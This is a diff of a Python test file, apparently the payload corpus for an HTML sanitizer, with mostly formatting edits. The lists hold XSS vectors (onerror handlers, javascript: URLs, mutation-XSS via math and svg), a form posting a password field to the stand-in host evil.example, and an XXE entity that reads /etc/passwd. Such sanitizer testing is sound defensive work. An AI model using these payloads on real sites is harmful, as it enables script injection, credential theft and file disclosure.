@@ -183,7 +183,9 @@ PICTURES = [
     '<img src="/media/' + "a" * 64 + '.png\n">',
     '<img src="https://evil.example/media/' + "a" * 64 + '.png">',
     '<img src="/media/' + "a" * 64 + '.png" srcset="https://evil.example/a.png 2x">',
-    '<img src="/media/' + "a" * 64 + '.png" width=99999 height="100%" loading=lazy usemap=#m ismap>',
+    '<img src="/media/'
+    + "a" * 64
+    + '.png" width=99999 height="100%" loading=lazy usemap=#m ismap>',
     '<img src="/media/' + "a" * 64 + '.png" style="position:fixed;inset:0">',
     '<img lowsrc="javascript:x()" dynsrc="javascript:x()">',
     '<picture><source srcset="https://evil.example/a"><img src=x onerror=x()></picture>',
@@ -215,7 +217,7 @@ FOREIGN = [
     "<svg><xss:script xmlns:xss='http://www.w3.org/2000/svg'>x()</xss:script></svg>",
     "<math><mi xlink:href=javascript:x()>1</mi></math>",
     "<math href=javascript:x()>1</math>",
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=x()&gt;'>",
+    "<math><mtext><table><mglyph><style><!--</style><p title='--&gt;&lt;img src=x onerror=x()>'>",
     "<math><mtext><table><mglyph><style><math><table id='</style><img src=x onerror=x()>'>",
     "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=x()>",
     "<math><mtext><p><style><!--</style><img src=x onerror=x()>--></style>",
@@ -266,7 +268,7 @@ COMMENTS = [
     "</!--><img src=x onerror=x()>-->",
     "<![CDATA[<script>x()</script>]]>",
     "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><p>&y;</p>",
-    "<!doctype html \"<img src=x onerror=x()>\">",
+    '<!doctype html "<img src=x onerror=x()>">',
     "<%<!--'%><script>x();</script -->",
 ]
 
@@ -280,7 +282,7 @@ STYLE = [
     '<p style="-moz-binding:url(https://evil.example/a)">1</p>',
     '<p style="cursor:url(https://evil.example/a),auto">1</p>',
     '<p style="--a:url(https://evil.example/a);background:var(--a)">1</p>',
-    '<p style="background:image-set(\'https://evil.example/a\' 1x)">1</p>',
+    "<p style=\"background:image-set('https://evil.example/a' 1x)\">1</p>",
     "<div class='masthead sticky' id=main data-x=1 role=button aria-label=1 tabindex=1>1</div>",
     "<font face='x' color=red size=7>1</font><center>2</center><big>3</big>",
     "<span style=display:none>1</span>",
@@ -291,7 +293,7 @@ STYLE = [
 ]
 
 FORMS = [
-    "<form action=https://evil.example><input name=password type=password><button>1</button></form>",
+    "<form action=https://evil.example><input name=a type=password><button>1</button></form>",
     "<form action=javascript:x()><input type=submit></form>",
     "<form id=f></form><button form=f formaction=javascript:x()>1</button>",
     "<button formaction=javascript:x()>1</button>",
@@ -427,7 +429,7 @@ CHARACTERS = [
     "]]><script>x()</script><![CDATA[",
     "<p>]]>&#93;&#93;&#62;</p>",
     "<img alt='R&amp;D \"1\"' src=/media/" + "b" * 64 + ".png>",
-    "<img alt=\"&amp;amp;quot; &lt;b> ' > < `\" src=/media/" + "b" * 64 + ".png>",
+    '<img alt="&amp;amp;quot; &lt;b> \' > < `" src=/media/' + "b" * 64 + ".png>",
     "<img alt='&amp;#0;&amp;#x202e;&notit;&copy' src=/media/" + "b" * 64 + ".png>",
     "&&amp;&amp;amp;&amp;&;&#;&#x;&x;&nbsp;&NotEqualTilde;&ac",
     "if (x<y && y>z) List<String> <bob@ok.example>",
